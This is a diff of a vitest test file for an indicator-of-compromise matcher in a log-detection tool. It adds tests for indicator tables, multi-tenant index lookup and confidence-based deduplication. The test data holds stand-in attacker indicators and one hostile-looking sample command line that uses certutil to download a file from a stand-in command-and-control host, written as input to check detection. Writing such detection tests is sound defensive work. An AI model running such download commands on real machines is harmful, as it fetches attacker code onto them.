@@ -1,6 +1,13 @@
 import { describe, expect, it } from 'vitest';
 import type { FieldValue, LogEvent } from '../../src/core/index.js';
-import { detectionFromIoc, IocMatcher, type WatchedIndicator } from '../../src/detect/index.js';
+import {
+  detectionFromIoc,
+  IndicatorIndex,
+  IocMatcher,
+  indicatorAt,
+  indicatorTable,
+  type WatchedIndicator,
+} from '../../src/detect/index.js';
 
 function event(fields: Record<string, FieldValue>): LogEvent {
   return { fields, source: { file: 'test.jsonl', record: 1 }, time: Date.parse('2024-05-01T10:00:00Z') };
@@ -10,12 +17,16 @@ function indicator(type: string, value: string, confidence = 80): WatchedIndicat
   return { type, value, source: 'list.txt', confidence };
 }
 
+function matcherOf(indicators: WatchedIndicator[]): IocMatcher {
+  return new IocMatcher([IndicatorIndex.of(indicators)]);
+}
+
 function found(matcher: IocMatcher, fields: Record<string, FieldValue>): string[] {
   return matcher.match(event(fields)).map((hit) => `${hit.indicator.value}@${hit.field}`);
 }
 
 describe('IocMatcher', () => {
-  const matcher = new IocMatcher([
+  const matcher = matcherOf([
     indicator('domain', 'evil.com'),
     indicator('url', 'http://bad.org/drop/x.ps1'),
     indicator('ipv4', '198.51.100.7'),
@@ -29,6 +40,40 @@ describe('IocMatcher', () => {
     indicator('email', 'phish@evil.com'),
     indicator('filename', 'dropper.exe'),
   ]);
+
+  it('packs indicators into a table and gives them back whole', () => {
+    const list = [
+      { ...indicator('domain', 'evil.com', 55), lastSeen: 1000, note: 'n' },
+      indicator('ipv4', '198.51.100.7'),
+    ];
+    const table = indicatorTable(list);
+    expect(table.sources).toEqual(['list.txt']);
+    expect([indicatorAt(table, 0), indicatorAt(table, 1)]).toEqual(list);
+  });
+
+  it("looks several indexes up as one: every tenant's indicators and a tenant's own", () => {
+    const both = new IocMatcher([
+      IndicatorIndex.of([indicator('domain', 'evil.com')]),
+      IndicatorIndex.of([
+        { ...indicator('domain', 'evil.com'), source: 'own.txt' },
+        indicator('md5', 'c'.repeat(32)),
+      ]),
+    ]);
+    const hits = both.match(event({ CommandLine: 'ping evil.com', md5: 'C'.repeat(32) }));
+    expect(hits.map((h) => `${h.indicator.value} ${h.indicator.source}`)).toEqual([
+      'evil.com list.txt',
+      'evil.com own.txt',
+      `${'c'.repeat(32)} list.txt`,
+    ]);
+  });
+
+  it('keeps, of two indicators with one value, the one with the higher confidence', () => {
+    const m = matcherOf([
+      indicator('domain', 'evil.com', 30),
+      { ...indicator('domain', 'evil.com', 90), source: 'b' },
+    ]);
+    expect(m.match(event({ QueryName: 'evil.com' })).map((h) => h.indicator.source)).toEqual(['b']);
+  });
 
   it('finds a domain and its subdomains inside command lines and URLs, not look-alikes', () => {
     expect(found(matcher, { CommandLine: 'certutil -f -urlcache https://c2.evil.com/a.bin' })).toEqual([
@@ -103,7 +148,7 @@ describe('IocMatcher', () => {
 
   it('makes a detection of an ioc:<type> rule, its level from the confidence, with the context', () => {
     const now = Date.parse('2024-05-11T00:00:00Z');
-    const m = new IocMatcher([
+    const m = matcherOf([
       {
         ...indicator('domain', 'evil.com', 55),
         lastSeen: Date.parse('2024-05-01T00:00:00Z'),
